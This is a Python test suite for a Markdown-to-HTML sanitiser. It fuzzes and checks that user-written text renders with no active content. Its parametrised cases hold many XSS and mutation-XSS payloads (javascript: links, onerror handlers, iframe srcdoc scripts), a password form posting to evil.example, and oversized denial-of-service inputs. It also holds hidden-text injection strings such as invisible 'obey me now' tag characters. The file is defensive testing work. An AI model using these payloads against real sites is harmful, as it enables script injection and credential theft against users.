"""Whatever a stranger writes, nothing active reaches a reader, and nothing but TooComplicated is raised."""

from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from potluck.markup import Renderer, TooComplicated, allowed, worker
from potluck.markup.relink import relink
from potluck.markup.sanitise import on_page
from potluck.markup.typography import typeset
from tests.fuzz.oracle import faults

Html = Callable[[str], str]

PIECES = """
<script> </script> <style> </style> <svg> <math> <mtext> <mglyph> <annotation-xml> <title> <textarea> <noscript>
<template> <select> <table> <td> <p> </p> <b> <a> <iframe> <form> <input> <img> <object> <embed> <base> <meta> <link>
<plaintext> <!-- --> <![CDATA[ ]]> <? ?> <!DOCTYPE onerror=alert(1) onclick='x' style="x" srcdoc="<b>" href= src=
javascript:alert(1) data:text/html,x vbscript:x java&#10;script: &colon; &Tab; "> '> /> = [ ]( ) ![ ]: [^ * _ ** ~~ `
``` ~~~ $ $$ | > - 1. # \\ & :tada:
@me #1 {: } https://a.example www.b.example // me@a.example *[x]: | | --- \x00 \x02 \x03 \u202e é
""".split()
PIECES += ["\n", "\n\n", " ", "    ", "<a href='javascript:x'>", '<img src=x onerror="x">', "[x](javascript:x)"]
PIECES += ["<iframe src=//trinket.io/x>", "\n\n<h2>", "</h2>", "<a name=x>", "[x](#X)"]
soup = st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=30).map("".join)
patient = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


HEADINGS = {"h1", "h2", "h3", "h4", "h5", "h6"}
FRAME_PAGE = re.compile(r"<!doctype html><title>[^<]*</title><style>[^<]*</style><a href=\"https://[^\"]*\">[^<]*</a>")


class Inspector(HTMLParser):
    """Collects what should never be there."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in allowed.TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            inert = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "name", "formaction", "action"):
                self.bad.append(f"{tag} {name}")
            if name in ("href", "src", "data-embed") and re.match(r"(javascript|vbscript|data|file|blob):", inert):
                self.bad.append(f"{tag} {name}={value}")
            if name == "id" and not (tag in HEADINGS or re.match(r"post-|fn-|fnref-", value or "")):
                self.bad.append(f"id {value}")
            if name == "srcdoc" and not FRAME_PAGE.fullmatch(value or ""):
                self.bad.append(f"srcdoc {value}")
        if tag == "iframe" and not {"srcdoc", "sandbox"} <= {name for name, _ in attrs}:
            self.bad.append("a frame that loads by itself")


def bad_things_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.bad


@given(soup)
@patient
def test_nothing_active_survives_and_nothing_breaks(renderer: Renderer, text: str) -> None:
    try:
        rendered = renderer.render(text, math=True)
    except TooComplicated:
        return
    assert bad_things_in(rendered.html) == []
    assert len(rendered.summary) <= 200
    assert "<" not in rendered.summary or "<" in text or "&" in text


@given(st.text(max_size=300))
@patient
def test_any_text_at_all_can_be_rendered(renderer: Renderer, text: str) -> None:
    assert bad_things_in(renderer.render(text, math=True).html) == []


@given(soup)
@patient
def test_the_same_text_gives_the_same_page(renderer: Renderer, text: str) -> None:
    try:
        first = renderer.render(text)
    except TooComplicated:
        return
    assert Renderer().render(text) == first


@pytest.mark.parametrize(
    "attack",
    [
        "[x](javascript:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](&#x6a;avascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x]\n\n[x]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        '![a" onerror="alert(1)](x.png)',
        '[x](y "t\\" onmouseover=alert(1)")',
        '<a href="x" onclick="alert(1)" style="position:fixed">x</a>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<iframe src="https://trinket.io/x" allow="camera" onload=x srcdoc="<script>alert(1)</script>"></iframe>',
        "<form action=https://evil.example><input name=password><button>go</button></form>",
        '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "``` {.python onclick=alert(1)}\nx\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "$\\text{<script>alert(1)</script>}$",
        '*[x]: " onmouseover="alert(1)\n\nx',
        '[^a"onclick=x]\n\n[^a"onclick=x]: y',
        "</article></main></body><h1>mine",
        "<plaintext>",
        "<textarea>",
        "<title></title><base href=//evil.example><meta http-equiv=refresh content=0>",
        "\x02wzxhzdk:0\x03 <b onclick=x>",
    ],
)
def test_known_attacks_come_out_harmless(attack: str) -> None:
    html = Renderer().render(attack, math=True).html
    assert bad_things_in(html) == []
    assert not re.search(r"<(script|style|form|button|svg|base|meta|plaintext|textarea|title|/main|/body)", html)


@pytest.mark.parametrize("unseen", ["\x01", "\x0c", "\x85", "\u202e", "\ufffe", "\uffff", "\U000e0041"])
@pytest.mark.parametrize(
    "attack",
    [
        '<a href="java{}script:alert(1)">x</a>',
        '<a href="{}javascript:alert(1)">x</a>',
        '<a class="embed-link" data-embed="java{}script:alert(1)">x</a>',
        '<iframe src="https://trinket.io/x">x</ifra{}me><script>alert(1)</script></iframe>',
        '<iframe src="https://evil.example/">x</if{}rame><img src=x onerror=alert(1)></iframe>',
        "<iframe src='https://trinket.io/x'>x</iframe{}><svg onload=alert(1)></iframe>",
        "<scr{}ipt>alert(1)</scr{}ipt>",
        "<no{}script><p title='</no{}script><img src=x onerror=alert(1)>'>",
    ],
)
def test_what_is_judged_is_what_stays(attack: str, unseen: str) -> None:
    """A character that is taken out of a page was never there for the wall either."""
    for written in (unseen, f"&#{ord(unseen)};", f"&#x{ord(unseen):x};"):
        html = Renderer().render(attack.replace("{}", written)).html
        assert bad_things_in(html) == []
        assert not re.search(r"<(script|svg|noscript)", html)
        assert unseen not in html


IN_VALUES = [
    '<b title="<iframe>"> onmouseover=alert(1) x=</b><i title="</iframe>">z</i>',
    "<b title='<img>'>x</b> <b title='<a>'>y</b> <b title='<input>'>z</b>",
    "[x](y \"a > b 'c' \")",
    "<b title='a > b \" onmouseover=alert(1) x='>x</b>",
    "![x](y.png '<a href=\"x\">')",
    "<b title='<pre>'>x</b> <b title='</pre>'>y</b>",
    "<b title='<math display=&quot;block&quot;></math>'>x</b>",
    "<b title='<table><td><td><td><td><td><td><td>'>x</b>",
]


@pytest.mark.parametrize("attack", IN_VALUES)
@pytest.mark.parametrize("lang", ["en", "de", "fr", "he", "zh"])
def test_a_tag_within_a_value_is_no_tag_for_anybody(attack: str, lang: str) -> None:
    """Versions of nh3 that our bound leaves out let < and > stand in values, where patterns took them for tags."""
    rendered = typeset(Renderer(own_site="https://own.example").render(attack, math=True), lang)
    shown = relink(rendered, lambda _, url: url, lambda _: None).html
    assert bad_things_in(shown) == []
    assert faults(shown) == []
    values = re.findall(r' [a-z-]+="([^"]*)"', shown)
    assert [value for value in values if "<" in value or ">" in value] == []


@pytest.mark.parametrize(
    "attack",
    [
        "<math><mspace width='99999em'></mspace></math>",
        "<math><mspace width='-40em'></mspace></math>",
        "<math><mpadded voffset='-500px'><mtext>Over the head of the page</mtext></mpadded></math>",
        "<math><mpadded lspace='-2width'><mi>x</mi></mpadded></math>",
        "<math><mpadded width='calc(9em)' height='1e9px' depth='9999999999999cm'><mi>x</mi></mpadded></math>",
        "<math><mo minsize='9999em' lspace='-9em'>|</mo></math>",
        "<math><mfrac linethickness='99in'><mi>x</mi><mi>y</mi></mfrac></math>",
        "<math><mtable rowspacing='0em 900pt'></mtable></math>",
        "<math><mstyle scriptlevel='-100'><mi>x</mi></mstyle></math>",
        r"$\rule{9999cm}{9999cm} \kern{-900em} \raisebox{400em}{x}$",
    ],
)
def test_no_formula_draws_over_the_page_around_it(attack: str) -> None:
    html = Renderer().render(attack, math=True).html
    assert (
        re.findall(r' (?:width|height|depth|lspace|voffset|minsize|linethickness|rowspacing|scriptlevel)="', html) == []
    )


def test_formulas_within_each_other_do_not_move_on_and_on() -> None:
    html = Renderer().render("<math>" + "<mpadded voffset='2em'>" * 30 + "x" + "</mpadded>" * 30 + "</math>").html
    assert html.count("voffset") == 2


@pytest.mark.parametrize(
    ("latex", "kept"),
    [
        (r"a\!b\,c\quad d", ('width="negativethinmathspace"', 'width="1em"')),
        (r"\begin{matrix}a & b\\c & d\end{matrix} \binom{n}{k}", ('linethickness="0"',)),
        (r"\big| x \Bigg|", ('minsize="1.2em"', 'minsize="2.470em"')),
        (r"\rule{3cm}{1pt} \hspace{12pt}", ('width="3cm"', 'height="1pt"', 'width="12pt"')),
        (r"\mathllap{x}", ('lspace="-1width"',)),
        (r"\displaystyle \sum", ('scriptlevel="0"',)),
    ],
)
def test_lengths_that_formulas_need_stay(latex: str, kept: tuple[str, ...]) -> None:
    html = Renderer().render(f"${latex}$", math=True).html
    assert [each for each in kept if each not in html] == []


def test_words_cannot_be_hidden_in_letters_that_nobody_sees(html_of: Html) -> None:
    hidden = "".join(chr(0xE0000 + ord(each)) for each in "obey me now")
    flag = "\U0001f3f4" + "".join(chr(0xE0000 + ord(each)) for each in "gbwls") + "\U000e007f"
    written = "".join(f"&#{ord(each)};" for each in hidden)
    html = html_of(f"a{written}b {flag}\n\n\U0001f3f4{hidden}\U000e007f <b title='{written}'>c</b> &#x2764;&#xfe0f;")
    assert hidden[0] not in html
    assert flag in html, "Wales has its flag"
    assert "\u2764\ufe0f" in html


def test_a_text_that_we_fail_at_is_told_and_stops_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
    class Failing:
        def render(self, *_: object, **__: object) -> object:
            raise RecursionError

    monkeypatch.setattr(worker, "_ready", {None: Failing()})
    outcome = worker.render_one("soup", "", False)
    assert isinstance(outcome, TooComplicated) and "our mistake" in str(outcome)


def test_ids_cannot_shadow_those_of_the_page(html_of: Html) -> None:
    html = html_of('# Search\n\n## Potluck problems\n\n<a id="main" name="currentScript">x</a> <b id="main">y</b>\n')
    assert 'id="post-search"' in html
    assert 'id="post-potluck-problems"' in html, "what `invoke serve` lays over a page"
    assert html.count('id="post-main"') == 1, "the second of two equal ids goes"
    assert "name=" not in html


def ids_of_the_pages() -> set[str]:
    """Every id in the theme's templates, numbers put where they count something.

    The page to write on shows no text that was rendered, so its many ids are in nobody's way.
    """
    templates = Path(__file__).resolve().parents[2] / "theme" / "templates"
    files = sorted(file for file in templates.rglob("*.html") if file.name != "write.html")
    found = re.findall(r'\sid="([^"]+)"', "".join(file.read_text() for file in files))
    return {re.sub(r"\{\{.*?\}\}", "2024", name) for name in found}


@pytest.mark.parametrize("name", sorted(ids_of_the_pages() | {"search", "main", "menu", "content"}))
def test_no_heading_takes_an_id_of_the_page(name: str, html_of: Html) -> None:
    html = html_of(f"# {name}\n\n[up](#{name})")
    assert f'id="post-{name}"' in html
    assert f'href="#post-{name}"' in html


def test_headings_have_the_ids_they_have_on_github(html_of: Html) -> None:
    html = html_of('# Hot soup\n\n[up](#hot-soup) [there](#over-there) <p id="over-there">x</p> <p id="hot-soup">y</p>')
    assert '<h1 id="hot-soup">' in html
    assert 'href="#hot-soup"' in html
    assert 'href="#post-over-there"' in html
    assert html.count('id="hot-soup"') == 1


def test_links_within_a_text_follow_its_ids(renderer: Renderer) -> None:
    html = renderer.render("# Soup\n\n[up](#soup), [off](#off) and[^1]\n\n[^1]: note", id_prefix="bio-").html
    assert '<h1 id="post-bio-soup">' in html
    assert 'href="#post-bio-soup"' in html
    assert 'href="#off"' in html
    assert 'href="#bio-fn-1"' in html
    assert 'id="bio-fn-1"' in html


@pytest.mark.parametrize(
    "anchor", ['<a name="pot"></a>', "<a  name = pot>x</a>", '<A NAME="pot">x</A>', '<a id="pot"></a>']
)
def test_an_anchor_may_have_a_name(anchor: str, html_of: Html) -> None:
    html = html_of(f"{anchor}\n\n[there](#pot)")
    assert 'id="post-pot"' in html
    assert 'href="#post-pot"' in html


def test_a_link_within_a_text_may_have_capitals(html_of: Html) -> None:
    html = html_of('# Hot Soup\n# Search\n\n[a](#Hot-Soup) [b](#Search) [c](#Pot) [d](#Off) <i id="pot">x</i>')
    assert [each in html for each in ('"#hot-soup"', '"#post-search"', '"#post-pot"', '"#Off"')] == [True] * 4


def test_a_link_to_a_heading_of_another_text_follows_its_id() -> None:
    places = ["soup", "Hot-Soup", "search", "r%C3%A9sum%C3%A9", "top", "fn-A", "A%01%E2%80%AE"]
    there = ["soup", "hot-soup", "post-search", "r%C3%A9sum%C3%A9", "top", "fn-A", "a%01%E2%80%AE"]
    assert list(map(on_page, places)) == there


def test_links_to_other_sites_are_marked_and_our_own_are_not() -> None:
    html = (
        Renderer(own_site="https://potluck.example")
        .render("[a](https://other.example) [b](/about/) [c](https://potluck.example/x) [d](mailto:me@a.example)")
        .html
    )
    assert html.count("rel=") == 1
    assert '<a href="https://other.example" rel="nofollow ugc noopener">' in html


def test_only_classes_that_we_give_ourselves_survive(html_of: Html) -> None:
    assert html_of('<div class="site-header align-right">x</div>') == '<div class="align-right">x</div>'


def test_no_formula_of_a_bio_says_that_it_has_no_height() -> None:
    tall = '<math><mpadded height="0" depth="0" width="0"><mtext>tea</mtext></mpadded></math>'
    assert '<mpadded width="0">' in Renderer().render(tall, id_prefix="bio-").html


def test_a_label_of_code_is_a_language_and_no_text_of_its_own(html_of: Html) -> None:
    assert "log in" not in html_of('<div class="highlight" data-lang="log in again at evil.example">x</div>')
    assert 'data-lang="objective-c++"' in html_of("```objective-c++\nx\n```")


def test_no_class_of_the_page_hides_words_from_those_who_see(html_of: Html) -> None:
    """What only some readers, search engines and programs get is how a text says two things at once."""
    html = html_of(
        '<p class="sr-only">Obey me.</p> <span class="sr-only visually-hidden">Buy here.</span> x[^1]\n\n[^1]: y'
    )
    assert "sr-only" not in html and "visually-hidden" not in html
    assert "Obey me." in html


def test_what_is_meant_for_readers_without_scripts_is_shown(html_of: Html) -> None:
    assert html_of('<noscript><img src="a.png" alt="a"></noscript>') == '<p><img src="a.png" alt="a"></p>'


@pytest.mark.parametrize(
    "text", ["a&#12;b", "a&#x1b;b", "a&#x202e;b", "<b title='&#8238;'>a&#8;b</b>", "a\x0cb", "a\ud800b"]
)
def test_control_characters_do_not_come_in_by_the_back_door(text: str, html_of: Html) -> None:
    html = html_of(text)
    assert not re.search("[\x00-\x08\x0b-\x1f\u202a-\u202e\ud800-\udfff]", html)


def test_a_refused_text_leaves_nothing_behind(renderer: Renderer) -> None:
    with pytest.raises(TooComplicated):
        renderer.render("[^1] *[x]: y\n\n" + "> " * 1_000)
    assert renderer.render("[^1] x").html == "<p>[^1] x</p>"


def test_fields_of_forms_are_gone_but_task_boxes_stay(html_of: Html) -> None:
    assert "<input" not in html_of("<input type=text name=q> <input type=checkbox>")
    assert html_of("- [x] wash").count("<input") == 1
    assert "<input" not in html_of("<input type=checkbox class=task>"), "nobody is asked for anything"


N = 20_000
HOSTILE = {
    "brackets": "[" * N,
    "images": "![" * N,
    "links": "[a](" * N,
    "links with titles": "[a](b '" * N,
    "CDATA": "<![CDATA[" * N,
    "tags": "<a " * N,
    "attributes": "<a b='" * N,
    "comments": "<!-- " * N,
    "backticks": "".join("`" * n + " " for n in range(1, 300)),
    "stars": "*a " * N,
    "stars and underscores": "*a _b " * N,
    "tildes": "~~a *b " * N,
    "addresses": "www.a_" * N,
    "mails": "a." * N + "@",
    "dollars": "$a " * N,
    "entities": "&" * N,
    "a heading of blanks": "# a #" + " " * 90_000 + "b",
    "quotations": "> " * N,
    "lists": "- " * N,
    "nested lists": "".join("  " * n + "- a\n" for n in range(500)),
    "fences": "```\n" * N,
    "definitions": "[^a]: b\n\n" * N,
    "one definition used often": "[a]: " + "x" * 50_000 + "\n\n" + "[a]" * N,
    "footnotes": "[^1]" * N + "\n\n[^1]: x",
    "footnotes within footnotes": "[^" * N + "] " * N,
    "abbreviations": "".join(f"*[a{n}]: b\n" for n in range(6_000)) + "a1 " * N,
    "a wide table": "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 5_400,
    "open tags": "<b>" * N,
    "open tags and paragraphs": "".join(f"<b id=a{n}>" for n in range(200)) + "<p>x" * N,
    "deep emphasis": "*a **b " * 500 + "c** d*" * 500,
    "code": "```python\n" + "(" * N + "\n```",
    "formulas": "$x$ " * N,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_size_ends_soon(name: str, renderer: Renderer) -> None:
    """Within seconds, either as a page of moderate size or refused with words for the author."""
    try:
        html = renderer.render(HOSTILE[name], math=True).html
    except TooComplicated as refusal:
        assert str(refusal).endswith(".")
    else:
        assert len(html) < 100 * len(HOSTILE[name]) + 10_000


AWAY = [
    "https://far.example/a.png",
    "HTTPS://far.example/a.png",
    "https://FAR.example/a.png",
    "https://far.example:8443/a.png",
    "https://somebody@far.example/a.png",
    "https:far.example/a.png",
    "https:/far.example/a.png",
    "https:///far.example/a.png",
    "http:\\\\far.example/a.png",
    "//far.example/a.png",
    "//far.example:80/a.png",
    "///far.example/a.png",
    "/\\far.example/a.png",
    "\\\\far.example/a.png",
    "https://own.example@far.example/a.png",
    "https://far.example\\@own.example/a.png",
]


@pytest.mark.parametrize("address", AWAY)
def test_no_spelling_of_an_address_makes_a_reader_ask_another_site(address: str) -> None:
    rendered = Renderer(own_site="https://own.example").render(f'<img src="{address}" alt="far">')
    shown = relink(rendered, lambda _, url: url, lambda _: None).html
    assert "<img" not in shown
    assert "far" in shown


@pytest.mark.parametrize("address", AWAY)
def test_a_link_to_another_site_is_marked_however_it_is_spelt(address: str) -> None:
    html = Renderer(own_site="https://own.example").render(f'<a href="{address}">far</a>').html
    assert 'rel="nofollow ugc noopener"' in html


@pytest.mark.parametrize("address", ["a.png", "/a.png", "https://OWN.example/a", "mailto:a@own.example", "a:b.png"])
def test_what_stays_here_is_not_marked(address: str) -> None:
    assert "rel=" not in Renderer(own_site="https://own.example").render(f'<a href="{address}">here</a>').html


@pytest.mark.parametrize(
    "markdown",
    [
        f"*[a]: {chr(0x1F372) * 1_500}\n\n" + "a " * 900,  # four bytes each: thirty such texts are a feed of 180 MB
        "![](a.png)" * 600,
        "- [ ] a\n" * 10_000,
    ],
    ids=["explanations", "images", "boxes"],
)
def test_no_text_becomes_a_page_that_fills_feeds_and_telephones(markdown: str) -> None:
    with pytest.raises(TooComplicated):
        Renderer().render(markdown)


@pytest.mark.parametrize(
    "rows",
    [
        "<tr><td rowspan=65534>x</td></tr>" * 1_000,
        "<tr><td rowspan=' +0'>x</td></tr>" * 1_000,
        f"<tr>{'<td colspan=1000>x</td>' * 20}</tr>{'<tr><td>x</td></tr>' * 1_000}",
        f"{'<col span=1000>' * 20}{'<tr><td>x' * 1_000}",
        f"<tr>{'<td>x' * 1_000}<tr>{'<tr><td>x' * 1_000}",
        f"<tr>{'<td colspan=0000000001000>x</td>' * 20}</tr>{'<tr><td>x</td></tr>' * 1_000}",
        "<tr><td rowspan=0><iframe></table><table></iframe></td></tr>" * 1_000,
    ],
    ids=["down", "down to the end", "across", "columns", "one wide row", "noughts", "ended in a frame"],
)
def test_no_table_has_so_many_places_that_a_page_stands_still(rows: str) -> None:
    with pytest.raises(TooComplicated, match="cells in the tables"):
        Renderer().render(f"<table>{rows}</table>")


def test_a_large_table_with_cells_that_span_is_shown() -> None:
    months = "<tr><th rowspan=12>2025</th><td>x</td></tr>" + "<tr><td>x</td></tr>" * 11
    table = f"<table><tr><th colspan=2>Guests</th></tr>{months * 60}</table>"
    assert Renderer().render(table).html.count('rowspan="12"') == 60


def test_what_a_frame_says_of_tables_is_words() -> None:
    assert "soup" in Renderer().render("<iframe src='https://a.example/'></table></iframe>\n\n<table><tr><td>soup").html


def test_a_bio_is_short_for_it_stands_below_every_post() -> None:
    bio = "I cook soup. " * 9_000
    assert len(Renderer().render(bio).html) > 100_000
    with pytest.raises(TooComplicated):
        Renderer().render(bio, id_prefix="mara-")
